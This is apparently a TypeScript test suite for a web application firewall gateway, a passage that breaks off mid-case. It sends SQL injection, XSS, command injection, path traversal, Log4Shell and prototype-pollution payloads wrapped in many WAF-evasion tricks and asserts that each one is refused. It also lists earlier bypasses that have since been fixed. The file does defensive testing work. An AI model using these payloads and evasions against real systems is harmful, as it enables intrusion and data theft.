/**
 * Audit 8: request-parsing and normalisation evasions against the `waf` policy (CRS v4.28.0 from ../shared, PL1,
 * blocking), through the real gateway in front of a recording upstream, for both the default API profile and
 * `profile: crs`. Every technique here is one the gateway stops: a baseline attack (SQL injection, XSS, command
 * injection, path traversal, Log4Shell, NoSQL operators, prototype pollution) hidden by content-type tricks,
 * charsets, multipart quirks, body framing and compression, JSON quirks, URL encodings, header and cookie tricks,
 * GraphQL shapes and XML encodings is refused with the status asserted and the upstream never sees the request.
 * The bypasses the audit found (B1–B7 of its report: a body without Content-Type, `text/plain` JSON,
 * `multipart/related`, XML in ISO-2022-JP or UTF-7, `filename=""` parts, duplicate JSON members) are fixed and
 * refused here too.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import zlib from 'node:zlib';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = join(import.meta.dirname, '../../../shared/crs/v4.28.0');
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const SQLI = "' UNION SELECT password FROM users--";
const XSS = '<script>alert(1)</script>';
/** Log4Shell lookup (`\x24` is `$`). */
const JNDI = '\x24{jndi:ldap://x.example/a}';
const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

type Profile = 'api' | 'crs';
const BOTH: readonly Profile[] = ['api', 'crs'];
/** Route prefix of each profile. */
const PREFIX: Record<Profile, string> = { api: '/', crs: '/crs/' };

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length when a body is given, close). */
function req(
  method: string,
  target: string,
  headers: [string, string][],
  body: string | Buffer = '',
): Buffer {
  const b = typeof body === 'string' ? Buffer.from(body, 'latin1') : body;
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0 && !headers.some(([k]) => /^(?:content-length|transfer-encoding)$/i.test(k)))
    lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
const post = (p: string, ct: string, body: string | Buffer): Buffer =>
  req('POST', `${p}x`, [['Content-Type', ct]], body);
const postJson = (p: string, body: string | Buffer): Buffer => req('POST', `${p}x`, JSON_CT, body);
const get = (target: string, headers: [string, string][] = []): Buffer => req('GET', target, headers);

const MP = 'multipart/form-data; boundary=b';
/** A multipart body with boundary `b` from raw part texts (headers, blank line, data). */
function mp(parts: string[], eol = '\r\n', boundary = 'b'): string {
  return `${parts.map((p) => `--${boundary}${eol}${p}${eol}`).join('')}--${boundary}--${eol}`;
}
const cd = (name: string, extra = ''): string => `Content-Disposition: form-data; name="${name}"${extra}`;
const chunked = (s: string | Buffer, ext = '', trailer = ''): Buffer => {
  const b = typeof s === 'string' ? Buffer.from(s, 'latin1') : s;
  return Buffer.concat([
    Buffer.from(`${b.length.toString(16)}${ext}\r\n`),
    b,
    Buffer.from(`\r\n0\r\n${trailer}\r\n`),
  ]);
};
/** An XML document with the given declared encoding and root content. */
const xml = (enc: string, content: string): string =>
  `<?xml version="1.0" encoding="${enc}"?><a>${content}</a>`;
const ESC_ASCII = '\x1b(B';
/** UTF-32LE bytes of an ASCII string. */
function utf32le(s: string): Buffer {
  const b = Buffer.alloc(s.length * 4);
  for (let i = 0; i < s.length; i++) b.writeUInt32LE(s.charCodeAt(i), i * 4);
  return b;
}
/** IBM037 (EBCDIC) bytes of text made of letters, digits and the punctuation listed here. */
function ebcdic(s: string): Buffer {
  const table = new Map<string, number>(
    Object.entries({
      ' ': 0x40,
      '.': 0x4b,
      '<': 0x4c,
      '(': 0x4d,
      '+': 0x4e,
      '&': 0x50,
      $: 0x5b,
      '*': 0x5c,
      ')': 0x5d,
      ';': 0x5e,
      '-': 0x60,
      '/': 0x61,
      ',': 0x6b,
      _: 0x6d,
      '>': 0x6e,
      '?': 0x6f,
      ':': 0x7a,
      '@': 0x7c,
      "'": 0x7d,
      '=': 0x7e,
      '"': 0x7f,
    }),
  );
  const runs: [string, number][] = [
    ['abcdefghi', 0x81],
    ['jklmnopqr', 0x91],
    ['stuvwxyz', 0xa2],
    ['ABCDEFGHI', 0xc1],
    ['JKLMNOPQR', 0xd1],
    ['STUVWXYZ', 0xe2],
    ['0123456789', 0xf0],
  ];
  for (const [chars, first] of runs)
    for (let i = 0; i < chars.length; i++) table.set(chars[i] as string, first + i);
  return Buffer.from(
    [...s].map((c) => {
      const v = table.get(c);
      if (v === undefined) throw new TypeError(`no EBCDIC code for ${c}`);
      return v;
    }),
  );
}

interface Case {
  readonly name: string;
  readonly status: number;
  readonly profiles?: readonly Profile[];
  readonly build: (prefix: string) => Buffer;
}

/** Evasions the gateway refuses (status observed on both profiles unless `profiles` says otherwise). */
const CASES: readonly Case[] = [
  // Content-Type tricks
  {
    name: 'JSON body without Content-Type (Content-Length)',
    status: 403,
    build: (p) => req('POST', `${p}x`, [], J({ q: SQLI })),
  },
  { name: 'JSON body with an empty Content-Type', status: 403, build: (p) => post(p, '', J({ q: SQLI })) },
  {
    name: 'JSON body sent as text/plain (CRS profile: not an allowed type)',
    status: 403,
    profiles: ['crs'],
    build: (p) => post(p, 'text/plain', J({ q: SQLI })),
  },
  {
    name: 'multipart/related body (CRS profile: not an allowed type)',
    status: 403,
    profiles: ['crs'],
    build: (p) => post(p, 'multipart/related; boundary=b', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart/mixed body',
    status: 403,
    build: (p) => post(p, 'multipart/mixed; boundary=b', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'application/json;charset=utf-16le body',
    status: 403,
    build: (p) => post(p, 'application/json; charset=utf-16le', Buffer.from(J({ q: SQLI }), 'utf16le')),
  },
  {
    name: 'application/json;charset="utf-16le" (quoted charset)',
    status: 403,
    build: (p) => post(p, 'application/json; charset="utf-16le"', Buffer.from(J({ q: SQLI }), 'utf16le')),
  },
  {
    name: 'application/json;charset=utf-7 body',
    status: 403,
    build: (p) =>
      post(p, 'application/json; charset=utf-7', '{"q":"+ACc- UNION SELECT password FROM users--"}'),
  },
  {
    name: 'application/json;charset=iso-2022-jp body',
    status: 403,
    build: (p) =>
      post(
        p,
        'application/json; charset=iso-2022-jp',
        J({ q: `' U${ESC_ASCII}NION S${ESC_ASCII}ELECT password FROM users--` }),
      ),
  },
  {
    name: 'form body with charset=utf-7',
    status: 403,
    build: (p) =>
      post(
        p,
        'application/x-www-form-urlencoded; charset=utf-7',
        'q=%2BACc-%20UNION%20SELECT%20password%20FROM%20users--',
      ),
  },
  {
    name: 'form body with charset=ibm037',
    status: 403,
    build: (p) =>
      post(p, 'application/x-www-form-urlencoded; charset=ibm037', Buffer.from([0x98, 0x7e, 0x7d, 0x40])),
  },
  {
    name: 'media type in mixed case with a quoted upper-case charset',
    status: 403,
    build: (p) => post(p, 'Application/JSON;Charset="UTF-8"', J({ q: SQLI })),
  },
  {
    name: 'media type with a space before the parameters',
    status: 403,
    build: (p) => post(p, 'application/json ;charset=utf-8', J({ q: SQLI })),
  },
  {
    name: 'media type list "application/json, text/plain"',
    status: 403,
    build: (p) => post(p, 'application/json, text/plain', J({ q: SQLI })),
  },
  {
    name: 'duplicate Content-Type (text/plain then application/json)',
    status: 400,
    build: (p) =>
      req(
        'POST',
        `${p}x`,
        [
          ['Content-Type', 'text/plain'],
          ['Content-Type', 'application/json'],
        ],
        J({ q: SQLI }),
      ),
  },
  {
    name: 'duplicate Content-Type (application/json then text/plain)',
    status: 400,
    build: (p) =>
      req(
        'POST',
        `${p}x`,
        [
          ['Content-Type', 'application/json'],
          ['Content-Type', 'text/plain'],
        ],
        J({ q: SQLI }),
      ),
  },
  {
    name: 'JSON body labelled application/x-www-form-urlencoded',
    status: 403,
    build: (p) => post(p, 'application/x-www-form-urlencoded', J({ q: SQLI })),
  },
  {
    name: 'application/vnd.foo+json',
    status: 403,
    build: (p) => post(p, 'application/vnd.foo+json', J({ q: SQLI })),
  },
  { name: 'application/x-json', status: 403, build: (p) => post(p, 'application/x-json', J({ q: SQLI })) },
  { name: 'text/json', status: 403, build: (p) => post(p, 'text/json', J({ q: SQLI })) },
  {
    name: 'JSON in UTF-16LE without a charset parameter',
    status: 400,
    build: (p) => postJson(p, Buffer.from(J({ q: SQLI }), 'utf16le')),
  },
  {
    name: 'JSON in UTF-16BE without a charset parameter',
    status: 400,
    build: (p) => postJson(p, Buffer.from(J({ q: SQLI }), 'utf16le').swap16()),
  },
  {
    name: 'JSON in UTF-32LE',
    status: 400,
    build: (p) => postJson(p, utf32le(J({ q: SQLI }))),
  },
  // multipart
  {
    name: 'multipart field (baseline)',
    status: 403,
    build: (p) => post(p, MP, mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart part with Content-Transfer-Encoding: base64',
    status: 403,
    build: (p) =>
      post(
        p,
        MP,
        mp([
          `${cd('q')}\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(SQLI).toString('base64')}`,
        ]),
      ),
  },
  {
    name: 'multipart part with Content-Transfer-Encoding: quoted-printable',
    status: 403,
    build: (p) =>
      post(
        p,
        MP,
        mp([
          `${cd('q')}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=27 UNION SELECT password FROM users--`,
        ]),
      ),
  },
  {
    name: 'multipart with a quoted boundary',
    status: 403,
    build: (p) => post(p, 'multipart/form-data; boundary="b"', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart BOUNDARY parameter in upper case',
    status: 403,
    build: (p) => post(p, 'multipart/form-data; BOUNDARY=b', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart boundary followed by whitespace',
    status: 403,
    build: (p) => post(p, 'multipart/form-data; boundary=b ', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart media type in mixed case',
    status: 403,
    build: (p) => post(p, 'Multipart/Form-Data; boundary=b', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart with two boundary parameters',
    status: 400,
    build: (p) => post(p, 'multipart/form-data; boundary=a; boundary=b', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart filename*= (RFC 2231) with a traversal',
    status: 400,
    build: (p) =>
      post(p, MP, mp([`${cd('f', `; filename*=UTF-8''${E('../../../../etc/passwd')}`)}\r\n\r\nx`])),
  },
  {
    name: 'multipart with LF-only lines',
    status: 403,
    build: (p) => post(p, MP, mp([`${cd('q')}\n\n${SQLI}`], '\n')),
  },
  {
    name: 'multipart with an unquoted name',
    status: 403,
    build: (p) => post(p, MP, mp([`Content-Disposition: form-data; name=q\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart/mixed nested in a form-data part',
    status: 403,
    build: (p) =>
      post(
        p,
        MP,
        mp([
          `${cd('q')}\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n${mp([`Content-Disposition: file; filename="x.txt"\r\n\r\n${SQLI}`], '\r\n', 'c')}`,
        ]),
      ),
  },
  {
    name: 'multipart part declared charset=utf-16le',
    status: 403,
    build: (p) =>
      post(
        p,
        MP,
        Buffer.concat([
          Buffer.from(`--b\r\n${cd('q')}\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\n`),
          Buffer.from(SQLI, 'utf16le'),
          Buffer.from('\r\n--b--\r\n'),
        ]),
      ),
  },
  {
    name: 'multipart _charset_=utf-7 field',
    status: 403,
    build: (p) =>
      post(
        p,
        MP,
        mp([`${cd('_charset_')}\r\n\r\nutf-7`, `${cd('q')}\r\n\r\n+ACc- UNION SELECT password FROM users--`]),
      ),
  },
  {
    name: 'multipart part after the closing boundary',
    status: 400,
    build: (p) => post(p, MP, `${mp([`${cd('a')}\r\n\r\nx`])}--b\r\n${cd('q')}\r\n\r\n${SQLI}\r\n--b--\r\n`),
  },
  {
    name: 'multipart part header names in lower case',
    status: 403,
    build: (p) => post(p, MP, mp([`content-disposition: form-data; name="q"\r\n\r\n${SQLI}`])),
  },
  {
    name: 'multipart Content-Disposition with two name parameters',
    status: 400,
    build: (p) => post(p, MP, mp([`Content-Disposition: form-data; name="x"; name="q"\r\n\r\n${SQLI}`])),
  },
  // body framing and compression
  {
    name: 'Content-Encoding: gzip body',
    status: 403,
    build: (p) =>
      req('POST', `${p}x`, [...JSON_CT, ['Content-Encoding', 'gzip']], zlib.gzipSync(J({ q: SQLI }))),
  },
  {
    name: 'Content-Encoding: deflate body',
    status: 403,
    build: (p) =>
      req('POST', `${p}x`, [...JSON_CT, ['Content-Encoding', 'deflate']], zlib.deflateSync(J({ q: SQLI }))),
  },
  {
    name: 'two Content-Encoding headers (identity, gzip)',
    status: 403,
    build: (p) =>
      req(
        'POST',
        `${p}x`,
        [...JSON_CT, ['content-encoding', 'identity'], ['Content-Encoding', 'gzip']],
        zlib.gzipSync(J({ q: SQLI })),
      ),
  },
  {
    name: 'Transfer-Encoding: gzip, chunked',
    status: 400,
    build: (p) =>
      req(
        'POST',
        `${p}x`,
        [...JSON_CT, ['Transfer-Encoding', 'gzip, chunked']],
        chunked(zlib.gzipSync(J({ q: SQLI }))),
      ),
  },
  {
    name: 'chunked with a chunk extension and a trailer',
    status: 403,
    build: (p) =>
      req(
        'POST',
        `${p}x`,
        [...JSON_CT, ['Transfer-Encoding', 'chunked']],
        chunked(J({ q: SQLI }), ';ext=1', 'X-T: 1\r\n'),
      ),
  },
  {
    name: 'chunked together with Content-Length',
    status: 400,
    build: (p) =>
      req(
        'POST',
        `${p}x`,
        [...JSON_CT, ['Content-Length', '4'], ['Transfer-Encoding', 'chunked']],
        chunked(J({ q: SQLI })),
      ),
  },
  {
    name: 'payload after 140 KB of padding (over the inspection limit)',
    status: 413,
    build: (p) => postJson(p, `{"pad":"${'a'.repeat(140_000)}","q":${J(SQLI)}}`),
  },
  {
    name: 'HTTP/1.0 request with a body',
    status: 403,
    build: (p) =>
      Buffer.from(
        `POST ${p}x HTTP/1.0\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/json\r\nContent-Length: ${J({ q: SQLI }).length}\r\n\r\n${J({ q: SQLI })}`,
        'latin1',
      ),
  },
  {
    name: 'Expect: 100-continue (answered 100, then refused)',
    status: 403,
    build: (p) => req('POST', `${p}x`, [...JSON_CT, ['Expect', '100-continue']], J({ q: SQLI })),
  },
  {
    name: 'Transfer-Encoding: xchunked',
    status: 400,
    build: (p) => req('POST', `${p}x`, [...JSON_CT, ['Transfer-Encoding', 'xchunked']], J({ q: SQLI })),
  },
  {
    name: 'Transfer-Encoding: chunked, identity',
    status: 400,
    build: (p) =>
      req('POST', `${p}x`, [...JSON_CT, ['Transfer-Encoding', 'chunked, identity']], J({ q: SQLI })),
  },
  {
    name: 'two equal Content-Length headers',
    status: 400,
    build: (p) => {
      const b = J({ q: SQLI });
      return req(
        'POST',
        `${p}x`,
        [...JSON_CT, ['Content-Length', `${b.length}`], ['Content-Length', `${b.length}`]],
        b,
      );
    },
  },
  {
    name: 'Content-Length with a + sign',
    status: 400,
    build: (p) => {
      const b = J({ q: SQLI });
      return req('POST', `${p}x`, [...JSON_CT, ['Content-Length', `+${b.length}`]], b);
    },
  },
  // methods
  { name: 'lower-case method', status: 400, build: (p) => req('post', `${p}x`, JSON_CT, J({ q: SQLI })) },
  {
    name: 'PROPFIND with a JSON body',
    status: 403,
    build: (p) => req('PROPFIND', `${p}x`, JSON_CT, J({ q: SQLI })),
  },
  {
    name: 'SEARCH with a JSON body',
    status: 403,
    build: (p) => req('SEARCH', `${p}x`, JSON_CT, J({ q: SQLI })),
  },
  { name: 'PUT with a JSON body', status: 403, build: (p) => req('PUT', `${p}x`, JSON_CT, J({ q: SQLI })) },
  {
    name: 'DELETE with a JSON body',
    status: 403,
    build: (p) => req('DELETE', `${p}x`, JSON_CT, J({ q: SQLI })),
  },
  { name: 'GET with a JSON body', status: 403, build: (p) => req('GET', `${p}x`, JSON_CT, J({ q: SQLI })) },
  {
    name: 'OPTIONS with a JSON body',
    status: 403,
    build: (p) => req('OPTIONS', `${p}x`, JSON_CT, J({ q: SQLI })),
  },
  {
    name: 'X-HTTP-Method-Override header',
    status: 403,
    build: (p) => req('POST', `${p}x`, [...JSON_CT, ['X-HTTP-Method-Override', 'DELETE']], '{}'),
  },
  // JSON
  { name: 'JSON with a UTF-8 BOM', status: 403, build: (p) => postJson(p, `\xef\xbb\xbf${J({ q: SQLI })}`) },
  { name: 'JSON __proto__ member', status: 403, build: (p) => postJson(p, '{"__proto__":{"isAdmin":true}}') },
  {
    name: 'JSON __proto__ member spelled with a \\u escape',
    status: 403,
    build: (p) => postJson(p, '{"\\u005f_proto__":{"isAdmin":true}}'),
  },
  {
    name: 'JSON constructor.prototype',
    status: 403,
    build: (p) => postJson(p, '{"constructor":{"prototype":{"isAdmin":true}}}'),
  },
  { name: 'JSON $where operator', status: 403, build: (p) => postJson(p, '{"$where":"sleep(1000)"}') },
  {
    name: 'JSON $where spelled with a \\u escape',
    status: 403,
    build: (p) => postJson(p, '{"\\u0024where":"sleep(1000)"}'),
  },
  {
    name: 'JSON duplicate key, hostile value last',
    status: 400,
    build: (p) => postJson(p, `{"q":"x","q":${J(SQLI)}}`),
  },
  {
    name: 'JSON nested 600 deep',
    status: 400,
    build: (p) => postJson(p, `${'['.repeat(600)}${J(SQLI)}${']'.repeat(600)}`),
  },
  { name: 'JSON with a comment', status: 400, build: (p) => postJson(p, `{"q":${J(SQLI)}/*c*/}`) },
  { name: 'JSON with NaN', status: 400, build: (p) => postJson(p, `{"a":NaN,"q":${J(SQLI)}}`) },
  { name: 'JSON top-level string', status: 403, build: (p) => postJson(p, J(SQLI)) },
  { name: 'JSON inside a JSON string', status: 403, build: (p) => postJson(p, J({ d: J({ q: SQLI }) })) },
  {
    name: 'JSON \\u-escaped payload',
    status: 403,
    build: (p) => postJson(p, '{"q":"\\u0027 \\u0055NION \\u0053ELECT password FROM users--"}'),
  },
  {
    name: 'JSON lone surrogate before the payload',
    status: 403,
    build: (p) => postJson(p, `{"q":"\\ud800${SQLI}"}`),
  },
  {
    name: 'JSON overlong UTF-8 quote (C0 A7)',
    status: 400,
    build: (p) => postJson(p, '{"q":"\xc0\xa7 UNION SELECT password FROM users--"}'),
  },
  {
    name: 'JSON \\u0000 before the payload',
    status: 403,
    build: (p) => postJson(p, `{"q":"\\u0000${SQLI.replace(/'/g, '\\u0027')}"}`),
  },
  {
    name: 'JSON with 1,100 arguments then the payload',
    status: 400,
    build: (p) => postJson(p, `[${Array(1100).fill('1').join(',')},${J(SQLI)}]`),
  },
  {
    name: 'NDJSON line',
    status: 403,
    build: (p) => post(p, 'application/x-ndjson', `{"a":1}\n${J({ q: SQLI })}\n`),
  },
  // URL
  { name: 'query: double percent-encoding', status: 403, build: (p) => get(`${p}x?q=${E(E(SQLI))}`) },
  {
    name: 'query: %u encoding',
    status: 403,
    build: (p) => get(`${p}x?q=%u0027%u0020UNION%u0020SELECT%u0020password%u0020FROM%u0020users--`),
  },
  {
    name: 'query: overlong UTF-8 %c0%a7',
    status: 403,
    build: (p) => get(`${p}x?q=%c0%a7%20UNION%20SELECT%20password%20FROM%20users--`),
  },
  {
    name: 'query: parameter pollution split across q=…&q=…',
    status: 403,
    build: (p) => get(`${p}x?q='%20UNION/*&q=*/SELECT%20password%20FROM%20users--`),
  },
  { name: 'query: q[]= array', status: 403, build: (p) => get(`${p}x?q[]=${E(SQLI)}`) },
  { name: 'query: a[q]= bracket key', status: 403, build: (p) => get(`${p}x?a[q]=${E(SQLI)}`) },
  { name: 'query: ; separator', status: 403, build: (p) => get(`${p}x?a=1;q=${E(SQLI)}`) },
  {
    name: 'query: + for spaces',
    status: 403,
    build: (p) => get(`${p}x?q='+UNION+SELECT+password+FROM+users--`),
  },
  { name: 'query: %00 before the payload', status: 403, build: (p) => get(`${p}x?q=%00${E(SQLI)}`) },
  {
    name: 'query: invalid %zz escape before the payload',
    status: 403,
    build: (p) => get(`${p}x?q=%zz${E(SQLI)}`),
  },
  {
    name: 'query: payload after a # in the request target',
    status: 400,
    build: (p) => get(`${p}x?a=1#&q=${E(SQLI)}`),
  },
  { name: 'query: payload as the parameter name', status: 403, build: (p) => get(`${p}x?${E(SQLI)}=1`) },
  {
    name: 'absolute-form request target',
    status: 403,
    build: (p) => get(`http://api.example.com${p}x?q=${E(SQLI)}`),
  },
  {
    name: 'path: ..%2f traversal',
    status: 400,
    build: (p) => get(`${p}static/..%2f..%2f..%2f..%2fetc%2fpasswd`),
  },
  { name: 'path: raw ../ traversal', status: 403, build: (p) => get(`${p}static/../../../../etc/passwd`) },
  {
    name: 'path: double-encoded traversal',
    status: 403,
    build: (p) => get(`${p}static/%252e%252e%252f%252e%252e%252fetc%252fpasswd`),
  },
  {
    name: 'path: overlong %c0%ae traversal',
    status: 400,
    build: (p) => get(`${p}static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`),
  },
  { name: 'path: backslash traversal', status: 400, build: (p) => get(`${p}static/..\\..\\..\\etc\\passwd`) },
  { name: 'path: ..;/ path parameters', status: 400, build: (p) => get(`${p}static/..;/..;/..;/etc/passwd`) },
  {
    name: 'query: traversal, double-encoded',
    status: 403,
    build: (p) => get(`${p}x?file=${E(E('../../../../etc/passwd'))}`),
  },
  {
    name: 'query: traversal in overlong UTF-8',
    status: 403,
    build: (p) => get(`${p}x?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd`),
  },
  {
    name: 'query: command injection',
    status: 403,
    build: (p) => get(`${p}x?host=${E('127.0.0.1; cat /etc/passwd')}`),
  },
  { name: 'query: XSS', status: 403, build: (p) => get(`${p}x?q=${E(XSS)}`) },
  {
    name: 'query: JSON holding a $where operator',
    status: 403,
    build: (p) => get(`${p}x?filter=${E('{"$where":"sleep(1000)"}')}`),
  },
  { name: 'query: __proto__[isAdmin]', status: 403, build: (p) => get(`${p}x?__proto__[isAdmin]=true`) },
  { name: 'query: __proto__.isAdmin', status: 403, build: (p) => get(`${p}x?__proto__.isAdmin=true`) },
  {
    name: 'query: constructor[prototype]',
    status: 403,
    build: (p) => get(`${p}x?constructor[prototype][isAdmin]=true`),
  },
  { name: 'query: user[$ne] percent-encoded', status: 403, build: (p) => get(`${p}x?user%5B%24ne%5D=1`) },
  // headers and cookies
  {
    name: 'Log4Shell in a custom header',
    status: 403,
    build: (p) => get(`${p}x`, [['X-Api-Version', JNDI]]),
  },
  {
    name: 'Log4Shell in a header with underscores in its name',
    status: 403,
    build: (p) => get(`${p}x`, [['X_Api_Version', JNDI]]),
  },
  {
    name: 'obs-fold header continuation',
    status: 400,
    build: (p) => get(`${p}x`, [['X-Foo', `a\r\n ${JNDI}`]]),
  },
  {
    name: '20 KB header before the payload header',
    status: 431,
    build: (p) =>
      get(`${p}x`, [
        ['X-Pad', 'a'.repeat(20_000)],
        ['X-Api-Version', JNDI],
      ]),
  },
  {
    name: 'cookie with a quoted value',
    status: 403,
    build: (p) => get(`${p}x`, [['Cookie', `sid="${SQLI}"`]]),
  },
  {
    name: 'cookie with $Version',
    status: 403,
    build: (p) => get(`${p}x`, [['Cookie', `$Version=1; sid="${SQLI}"`]]),
  },
  {
    name: 'two Cookie headers',
    status: 403,
    build: (p) =>
      get(`${p}x`, [
        ['Cookie', 'a=1'],
        ['Cookie', `sid=${E(SQLI)}`],
      ]),
  },
  {
    name: 'comma-separated cookies',
    status: 403,
    build: (p) => get(`${p}x`, [['Cookie', `a=1, sid=${E(SQLI)}`]]),
  },
  // GraphQL
  {
    name: 'GraphQL GET with an extra non-GraphQL parameter',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E('{me{id}}')}&q=${E(SQLI)}`),
  },
  {
    name: 'GraphQL GET variables',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E('query($q:String){a(q:$q)}')}&variables=${E(J({ q: SQLI }))}`),
  },
  {
    name: 'GraphQL GET block string',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E(`{a(q:"""${SQLI}""")}`)}`),
  },
  {
    name: 'GraphQL GET \\u escape',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E('{a(q:"\\u0027 UNION SELECT password FROM users--")}')}`),
  },
  {
    name: 'GraphQL GET duplicate query parameter',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E('{me{id}}')}&query=${E(`{a(q:"${SQLI}")}`)}`),
  },
  {
    name: 'GraphQL batched array',
    status: 403,
    build: (p) => postJson(p, J([{ query: '{me{id}}' }, { query: `{a(q:"${SQLI}")}` }])),
  },
  {
    name: 'GraphQL variables object',
    status: 403,
    build: (p) => postJson(p, J({ query: 'query($q:String){a(q:$q)}', variables: { q: SQLI } })),
  },
  {
    name: 'GraphQL variables as a JSON string',
    status: 403,
    build: (p) => postJson(p, J({ query: 'query($q:String){a(q:$q)}', variables: J({ q: SQLI }) })),
  },
  {
    name: 'GraphQL persisted query (extensions, no document)',
    status: 403,
    build: (p) =>
      postJson(
        p,
        J({ extensions: { persistedQuery: { version: 1, sha256Hash: 'abc' } }, variables: { q: SQLI } }),
      ),
  },
  { name: 'GraphQL comment', status: 403, build: (p) => postJson(p, J({ query: `{a} # ${SQLI}` })) },
  {
    name: 'application/graphql body',
    status: 403,
    build: (p) => post(p, 'application/graphql', `{a(q:"${SQLI}")}`),
  },
  {
    name: 'GraphQL \\u-escaped XSS in a string literal',
    status: 403,
    build: (p) => postJson(p, J({ query: '{a(q:"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")}' })),
  },
  {
    name: 'GraphQL \\u-escaped SQL injection in a string literal (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) =>
      postJson(p, J({ query: '{a(q:"\\u0027 \\u0055NION \\u0053ELECT password \\u0046ROM users--")}' })),
  },
  {
    name: 'GraphQL \\u-escaped Log4Shell in a string literal',
    status: 403,
    build: (p) => postJson(p, J({ query: '{a(q:"\\u0024{jndi:ldap://x.example/a}")}' })),
  },
  {
    name: 'GraphQL GET \\u-escaped Log4Shell',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E('{a(q:"\\u0024{jndi:ldap://x.example/a}")}')}`),
  },
  // XML
  { name: 'XML CDATA', status: 403, build: (p) => post(p, 'application/xml', `<a><![CDATA[${SQLI}]]></a>`) },
  {
    name: 'XML in UTF-16 with a BOM',
    status: 400,
    build: (p) =>
      post(
        p,
        'application/xml',
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml('UTF-16', SQLI), 'utf16le')]),
      ),
  },
  {
    name: 'XML declared UTF-7, +ACc- quote',
    status: 400,
    build: (p) => post(p, 'application/xml', xml('UTF-7', '+ACc- UNION SELECT password FROM users--')),
  },
  {
    name: 'application/soap+xml',
    status: 403,
    build: (p) => post(p, 'application/soap+xml', `<a>${SQLI}</a>`),
  },
  {
    name: 'XML wholly in EBCDIC (IBM037)',
    status: 400,
    build: (p) => post(p, 'application/xml', ebcdic(xml('IBM037', SQLI))),
  },
  {
    name: 'XML internal entity holding the payload',
    status: 400,
    build: (p) => post(p, 'application/xml', `<!DOCTYPE a [<!ENTITY e "${SQLI}">]><a>&e;</a>`),
  },
  {
    name: 'XML internal entity splitting a keyword',
    status: 400,
    build: (p) =>
      post(
        p,
        'application/xml',
        `<!DOCTYPE a [<!ENTITY e "UNI">]><a>' &e;ON SELECT password FROM users--</a>`,
      ),
  },
  { name: 'text/xml', status: 403, build: (p) => post(p, 'text/xml', `<a>${SQLI}</a>`) },
  // The audit's bypasses, fixed (each reached the upstream before).
  {
    name: 'B1: chunked JSON body without Content-Type or Content-Length (920640 needs the body read)',
    status: 403,
    build: (p) => req('POST', `${p}x`, [['Transfer-Encoding', 'chunked']], chunked(J({ q: SQLI }))),
  },
  {
    name: 'B2: JSON body sent as text/plain (API profile: inspected as JSON)',
    status: 403,
    profiles: ['api'],
    build: (p) => post(p, 'text/plain; charset=utf-8', J({ q: SQLI })),
  },
  {
    name: 'B2: plain text body carrying SQL injection (API profile: inspected as one value)',
    status: 403,
    profiles: ['api'],
    build: (p) => post(p, 'text/plain', SQLI),
  },
  {
    name: 'B3: multipart/related form (API profile: read as multipart, as Spring does)',
    status: 403,
    profiles: ['api'],
    build: (p) => post(p, 'multipart/related; boundary=b', mp([`${cd('q')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'B4: XML declared ISO-2022-JP with ESC ( B between the letters of a Log4Shell lookup',
    status: 400,
    build: (p) =>
      post(p, 'application/xml', xml('ISO-2022-JP', `\x24${ESC_ASCII}{j${ESC_ASCII}ndi:ldap://x.example/a}`)),
  },
  {
    name: 'B7: XML declared UTF-7',
    status: 400,
    build: (p) =>
      post(
        p,
        'application/xml',
        xml(
          'UTF-7',
          '+ACcAIABVAE4ASQBPAE4AIABTAEUATABFAEMAVAAgAHAAYQBzAHMAdwBvAHIAZAAgAEYAUgBPAE0AIAB1AHMAZQByAHMALQAt-',
        ),
      ),
  },
  {
    name: 'B5: multipart part with filename="" (a form value to Go and ASP.NET Core)',
    status: 403,
